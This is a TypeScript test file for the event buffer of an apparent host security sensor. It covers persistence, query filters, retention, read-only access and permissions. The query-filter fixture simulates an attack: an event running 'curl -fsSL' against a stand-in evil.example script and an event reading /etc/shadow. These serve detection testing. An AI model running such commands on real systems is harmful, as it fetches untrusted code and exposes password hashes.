import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import { readdir, stat, truncate, writeFile } from 'node:fs/promises';
import * as path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, describe, expect, it } from 'vitest';
import { EventBuffer, type QueryFilter } from '../../src/buffer';
import { blockMayMatch } from '../../src/buffer/query';
import type { AmberEvent } from '../../src/sensor/events';
import {
  CONTAINER_A,
  CONTAINER_B,
  collect,
  connectEvent,
  dnsEvent,
  execEvent,
  exitEvent,
  KEEP_OLD,
  oneOfEach,
  openEvent,
  sequenceEvents,
  T0,
  tempDir,
} from '../helpers/buffer-events';

let cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanups.reverse()) await c();
  cleanups = [];
});

async function dataDir(): Promise<string> {
  const tmp = await tempDir();
  cleanups.push(tmp.cleanup);
  return tmp.dir;
}

async function openBuffer(opts: Partial<Parameters<typeof EventBuffer.open>[0]> = {}) {
  const dir = opts.dataDir ?? (await dataDir());
  const buffer = await EventBuffer.open({ ...KEEP_OLD, ...opts, dataDir: dir });
  cleanups.push(() => buffer.close());
  return { dir, buffer };
}

const MS = 1e6;
const SEC = 1e9;

describe('EventBuffer', () => {
  it('keeps events across close and reopen, and appends after them', async () => {
    const { dir, buffer } = await openBuffer();
    const first = [...oneOfEach(T0), ...sequenceEvents(0, 5000, T0 + SEC)];
    buffer.append(first);
    await buffer.close();

    const reopened = await EventBuffer.open({ dataDir: dir, ...KEEP_OLD });
    expect(await collect(reopened.query())).toEqual(first);
    const second = sequenceEvents(5000, 100, T0 + SEC);
    reopened.append(second);
    await reopened.close();

    const ro = await EventBuffer.openReadOnly(dir);
    expect(await collect(ro.query())).toEqual([...first, ...second]);
    const stats = ro.stats();
    expect(stats).toMatchObject({
      readOnly: true,
      segments: 2,
      events: 5108,
      oldestTs: T0,
      newestTs: T0 + SEC + 5099 * 1000,
      eventsPerType: { exec: 1, exit: 1, fork: 1, open: 5101, connect: 1, accept: 1, dns: 2 },
      memoryEvents: 0,
      droppedEvents: 0,
      corruptBlocks: 0,
      writeError: null,
    });
    const files = await readdir(path.join(dir, 'segments'));
    expect(stats.bytes).toBe(
      (await Promise.all(files.filter((f) => f.endsWith('.amb')).map((f) => stat(path.join(dir, 'segments', f))))).reduce((n, s) => n + s.size, 0),
    );
    await ro.close();
  });

  it('returns events in time order across blocks appended out of order; equal ts keep append order', async () => {
    const { buffer } = await openBuffer({ blockBytes: 1024 });
    const late = sequenceEvents(100, 50); // ts T0+100µs..
    const early = sequenceEvents(0, 120); // overlaps the first batch
    const tie = [openEvent(T0 + 110_000, { pid: 9001 }), openEvent(T0 + 110_000, { pid: 9002 })];
    buffer.append(late);
    await buffer.flush();
    buffer.append(early);
    buffer.append(tie);
    const expected = [...late, ...early, ...tie].sort((a, b) => a.ts - b.ts); // stable
    expect(await collect(buffer.query())).toEqual(expected);
    const pidsAt110 = (await collect(buffer.query({ since: T0 + 110_000, until: T0 + 110_000 }))).map((e) => e.pid);
    expect(pidsAt110).toEqual([110, 110, 9001, 9002]);
    await buffer.flush();
    expect(await collect(buffer.query())).toEqual(expected);
  });

  it('shows appended events to queries before they are written', async () => {
    const { buffer } = await openBuffer({ flushIntervalMs: 60_000 });
    const events = sequenceEvents(0, 10);
    buffer.append(events);
    expect(buffer.stats().memoryEvents).toBe(10);
    expect(await collect(buffer.query())).toEqual(events);
  });

  it('writes appended events to disk within the flush interval, without an explicit flush', async () => {
    const { dir, buffer } = await openBuffer({ flushIntervalMs: 100 });
    const events = sequenceEvents(0, 1000);
    buffer.append(events);
    await sleep(400);
    const ro = await EventBuffer.openReadOnly(dir);
    expect(await collect(ro.query())).toEqual(events);
    await ro.close();
  });

  it('refuses a second writer on the same data dir and takes over a stale lock', async () => {
    const { dir, buffer } = await openBuffer();
    await expect(EventBuffer.open({ dataDir: dir })).rejects.toThrow(`data dir ${dir} is in use by process ${process.pid}`);
    await buffer.close();
    // A lock left by a process that is gone.
    const gone = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))']).stdout.toString();
    await writeFile(path.join(dir, 'LOCK'), `${gone}\n`);
    const again = await EventBuffer.open({ dataDir: dir });
    await again.close();
  });

  it('stores and queries events that are not a contract shape without failing', async () => {
    const { buffer } = await openBuffer();
    const partial = { type: 'exec', ts: T0, pid: 7 } as unknown as AmberEvent;
    const extra = { ...openEvent(T0 + 1), note: 'extra field' } as AmberEvent;
    buffer.append([partial, extra]);
    await buffer.flush();
    expect(await collect(buffer.query())).toEqual([partial, extra]);
    expect(await collect(buffer.query({ scope: 'host' }))).toEqual([partial]);
    expect(await collect(buffer.query({ match: 'passwd' }))).toEqual([extra]);
    expect(await collect(buffer.query({ types: ['exec'], match: 'x' }))).toEqual([]);
    expect(buffer.stats().eventsPerType).toMatchObject({ exec: 1, open: 1 });
  });

  it('closes the files of a query the reader stops early', async () => {
    const { buffer } = await openBuffer({ blockBytes: 1 }); // one event per block, all in one segment
    buffer.append(sequenceEvents(0, 200));
    await buffer.flush();
    const fds = async () => (await readdir('/proc/self/fd')).length;
    const before = await fds();
    const seen: number[] = [];
    for await (const ev of buffer.query()) {
      seen.push(ev.pid);
      if (seen.length === 15) break;
    }
    expect(seen).toEqual(Array.from({ length: 15 }, (_, i) => i));
    expect(await fds()).toBe(before);
    const batches = buffer.queryBatches({ since: T0 + 50_000 });
    expect((await batches.next()).value).toEqual(sequenceEvents(50, 1));
    await batches.return(undefined);
    expect(await fds()).toBe(before);
  });

  it('is closed for appends after close, and close is idempotent', async () => {
    const { buffer } = await openBuffer();
    const first = buffer.close();
    expect(buffer.close()).toBe(first);
    await first;
    expect(() => buffer.append(sequenceEvents(0, 1))).toThrow('buffer is closed');
  });

  it('rejects bad options and filters with a message naming them', async () => {
    const dir = await dataDir();
    await expect(EventBuffer.open({ dataDir: dir, maxBytes: 0 })).rejects.toThrow('maxBytes must be a positive number, got 0');
    const { buffer } = await openBuffer();
    const bad: [QueryFilter, string][] = [
      [{ types: ['exec', 'bogus' as never] }, 'unknown event type "bogus"'],
      [{ since: 10, until: 5 }, 'since is after until'],
      [{ pid: -1 }, 'pid must be a non-negative integer'],
      [{ container: '' }, 'container must not be empty'],
    ];
    for (const [filter, message] of bad) expect(() => buffer.query(filter)).toThrow(message);
  });
});

describe('query filters', () => {
  const HOST = '';
  const events: AmberEvent[] = [
    execEvent(T0, { pid: 10, comm: 'bash', containerId: CONTAINER_A, exePath: '/usr/bin/curl', filename: 'curl', args: ['curl', '-fsSL', 'http://evil.example/x.sh'] }),
    openEvent(T0 + 1 * MS, { pid: 10, comm: 'bash', containerId: CONTAINER_A, path: '/etc/shadow' }),
    connectEvent(T0 + 2 * MS, { pid: 11, comm: 'curl', containerId: CONTAINER_A, daddr: '203.0.113.7' }),
    dnsEvent(T0 + 3 * MS, { pid: 11, comm: 'curl', containerId: CONTAINER_B, name: 'evil.example' }),
    openEvent(T0 + 4 * MS, { pid: 20, comm: 'nginx', containerId: CONTAINER_B, path: '/var/log/nginx/access.log' }),
    exitEvent(T0 + 5 * MS, { pid: 10, comm: 'bash', containerId: CONTAINER_A }),
    execEvent(T0 + 6 * MS, { pid: 30, comm: 'systemd', containerId: HOST, exePath: '/usr/sbin/cron', filename: '/usr/sbin/cron', args: ['cron', '-f'] }),
    openEvent(T0 + 7 * MS, { pid: 30, comm: 'cron', containerId: HOST, path: '/etc/crontab' }),
  ];
  const pick = (...indexes: number[]) => indexes.map((i) => events[i]);

  const cases: [string, QueryFilter, AmberEvent[]][] = [
    ['no filter', {}, events],
    ['since (inclusive)', { since: T0 + 5 * MS }, pick(5, 6, 7)],
    ['until (inclusive)', { until: T0 + 1 * MS }, pick(0, 1)],
    ['since and until', { since: T0 + 2 * MS, until: T0 + 4 * MS }, pick(2, 3, 4)],
    ['types', { types: ['exec', 'dns'] }, pick(0, 3, 6)],
    ['container prefix', { container: CONTAINER_B.slice(0, 4) }, pick(3, 4)],
    ['container full id', { container: CONTAINER_A }, pick(0, 1, 2, 5)],
    ['scope host', { scope: 'host' }, pick(6, 7)],
    ['pid', { pid: 11 }, pick(2, 3)],
    ['comm (exact)', { comm: 'curl' }, pick(2, 3)],
    ['comm is not a substring match', { comm: 'cur' }, []],
    ['match on a path', { match: 'shadow' }, pick(1)],
    ['match on exePath', { match: '/usr/bin/cu' }, pick(0)],
    ['match on filename', { match: '/usr/sbin/cron' }, pick(6)],
    ['match on a DNS name', { match: 'evil.example' }, pick(0, 3)],
    ['match on args joined', { match: '-fsSL http://' }, pick(0)],
    ['match ignores other fields', { match: '203.0.113.7' }, []],
    ['filters combine', { types: ['open'], scope: 'host', match: 'cron' }, pick(7)],
  ];

  it.each(cases)('%s', async (_name, filter, expected) => {
    const { dir, buffer } = await openBuffer({ blockBytes: 1 }); // one event per block: exercises block skipping
    buffer.append(events);
    expect(await collect(buffer.query(filter))).toEqual(expected);
    await buffer.close();
    const ro = await EventBuffer.openReadOnly(dir);
    expect(await collect(ro.query(filter))).toEqual(expected);
    await ro.close();
  });

  it('skips blocks by summary only when they cannot match', () => {
    const block = {
      count: 2,
      rawLen: 10,
      minTs: 100,
      maxTs: 200,
      typeCounts: [0, 0, 0, 2, 0, 0, 0],
      containers: ['', CONTAINER_A.slice(0, 12)],
    };
    expect(blockMayMatch(block, {})).toBe(true);
    expect(blockMayMatch(block, { since: 201 })).toBe(false);
    expect(blockMayMatch(block, { since: 200 })).toBe(true);
    expect(blockMayMatch(block, { until: 99 })).toBe(false);
    expect(blockMayMatch(block, { until: 100 })).toBe(true);
    expect(blockMayMatch(block, { types: ['exec'] })).toBe(false);
    expect(blockMayMatch(block, { types: ['exec', 'open'] })).toBe(true);
    expect(blockMayMatch(block, { scope: 'host' })).toBe(true);
    expect(blockMayMatch(block, { container: CONTAINER_A })).toBe(true);
    expect(blockMayMatch(block, { container: CONTAINER_A.slice(0, 3) })).toBe(true);
    expect(blockMayMatch(block, { container: CONTAINER_B })).toBe(false);
    expect(blockMayMatch({ ...block, containers: [CONTAINER_A.slice(0, 12)] }, { scope: 'host' })).toBe(false);
    expect(blockMayMatch({ ...block, containers: null }, { container: CONTAINER_B })).toBe(true);
    expect(blockMayMatch(block, { pid: 1, comm: 'x', match: 'y' })).toBe(true);
  });
});

describe('retention', () => {
  it('deletes the oldest segments beyond maxBytes, keeping the newest that fit', async () => {
    const batches = Array.from({ length: 10 }, (_, i) => sequenceEvents(i * 200, 200));
    // Measure each segment's size with no limit (the encoding is deterministic)...
    const sizes: number[] = [];
    {
      const { buffer } = await openBuffer({ segmentBytes: 1 });
      let before = 0;
      for (const batch of batches) {
        buffer.append(batch);
        await buffer.flush();
        sizes.push(buffer.stats().bytes - before);
        before = buffer.stats().bytes;
      }
      await buffer.close();
    }
    // ...then keep 4.5 segments' worth.
    const maxBytes = Math.floor(sizes.slice(-5).reduce((a, b) => a + b, 0) - sizes[5] / 2);
    let kept = 0;
    let keptBytes = 0;
    while (kept < sizes.length && keptBytes + sizes[sizes.length - 1 - kept] <= maxBytes) keptBytes += sizes[sizes.length - 1 - kept++];
    expect(kept).toBe(4);

    const { dir, buffer } = await openBuffer({ segmentBytes: 1, maxBytes });
    for (const batch of batches) {
      buffer.append(batch);
      await buffer.flush();
    }
    expect(buffer.stats()).toMatchObject({ segments: kept, bytes: keptBytes, events: kept * 200 });
    expect(await collect(buffer.query())).toEqual(batches.slice(-kept).flat());
    const files = (await readdir(path.join(dir, 'segments'))).filter((f) => f.endsWith('.amb'));
    expect(files.length).toBe(kept);
  });

  it('deletes segments whose newest event is older than maxAge, never the one being written', async () => {
    const now = Date.now() * 1e6;
    const old = sequenceEvents(0, 100, now - 48 * 3600 * SEC);
    const recent = sequenceEvents(0, 100, now - 60 * SEC);
    const { dir, buffer } = await openBuffer({ segmentBytes: 1, maxAgeMs: 24 * 3600_000 });
    buffer.append(old);
    await buffer.flush();
    // Still the active segment: kept even though it is old.
    expect(await collect(buffer.query())).toEqual(old);
    buffer.append(recent);
    await buffer.flush();
    expect(await collect(buffer.query())).toEqual(recent);
    expect(buffer.stats()).toMatchObject({ segments: 1, events: 100 });
    expect((await readdir(path.join(dir, 'segments'))).filter((f) => f.endsWith('.amb'))).toEqual(['segment-0000000000000002.amb']);
  });
});

describe('read-only open', () => {
  async function snapshot(dir: string): Promise<Record<string, string>> {
    const out: Record<string, string> = {};
    const walk = async (d: string) => {
      for (const entry of await readdir(d, { withFileTypes: true })) {
        const p = path.join(d, entry.name);
        const s = await stat(p);
        out[path.relative(dir, p)] = `${entry.isDirectory() ? 'dir' : s.size} ${s.mtimeMs} ${s.mode}`;
        if (entry.isDirectory()) await walk(p);
      }
    };
    await walk(dir);
    return out;
  }

  it('never writes: not on recovery of a torn tail, not on queries or stats', async () => {
    const { dir, buffer } = await openBuffer({ blockBytes: 2048 });
    const events = sequenceEvents(0, 500);
    buffer.append(events);
    await buffer.flush();
    await buffer.freeze({ at: T0 + 100_000, before: 50_000, after: 0, reason: 'test' });
    // Crash-like state: no close, so no sidecar for the active segment and a LOCK left; then a torn tail.
    const segment = path.join(dir, 'segments', 'segment-0000000000000001.amb');
    await truncate(segment, (await stat(segment)).size - 7);
    const before = await snapshot(dir);
    expect(Object.keys(before).sort()).toEqual([
      'LOCK',
      'frozen',
      `frozen/${buffer.stats().frozen.windows[0].id}`,
      `frozen/${buffer.stats().frozen.windows[0].id}/events.jsonl`,
      `frozen/${buffer.stats().frozen.windows[0].id}/events.msgpack`,
      `frozen/${buffer.stats().frozen.windows[0].id}/window.json`,
      'segments',
      'segments/segment-0000000000000001.amb',
    ]);
    await sleep(20); // a write now would show in the mtimes

    const ro = await EventBuffer.openReadOnly(dir);
    const read = await collect(ro.query());
    expect(read.length).toBeGreaterThan(0);
    expect(read).toEqual(events.slice(0, read.length));
    expect(ro.stats().frozen.windows.length).toBe(1);
    expect(() => ro.append(events)).toThrow('read-only');
    await expect(ro.freeze({ before: 0, after: 0, reason: 'x' })).rejects.toThrow('read-only');
    await ro.close();
    expect(await snapshot(dir)).toEqual(before);
  });

  it('fails clearly on a missing data dir without creating it', async () => {
    const missing = path.join(await dataDir(), 'nope');
    await expect(EventBuffer.openReadOnly(missing)).rejects.toThrow(`data dir ${missing} does not exist or is not a directory`);
    await expect(stat(missing)).rejects.toThrow('ENOENT');
  });
});

describe('data dir permissions', () => {
  it('keeps events owner-only: the data dir and its folders 0700, segment files 0600', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'amber-perm-'));
    const dataDir = path.join(dir, 'data');
    const buffer = await EventBuffer.open({ dataDir });
    try {
      buffer.append(oneOfEach(Date.now() * 1e6));
      await buffer.flush();
      const mode = (p: string) => fs.statSync(p).mode & 0o777;
      expect(mode(dataDir)).toBe(0o700);
      expect(mode(path.join(dataDir, 'segments'))).toBe(0o700);
      expect(mode(path.join(dataDir, 'frozen'))).toBe(0o700);
      const segments = fs.readdirSync(path.join(dataDir, 'segments')).filter((f) => f.endsWith('.amb'));
      expect(segments.length).toBeGreaterThan(0);
      for (const f of segments) expect(mode(path.join(dataDir, 'segments', f))).toBe(0o600);
    } finally {
      await buffer.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
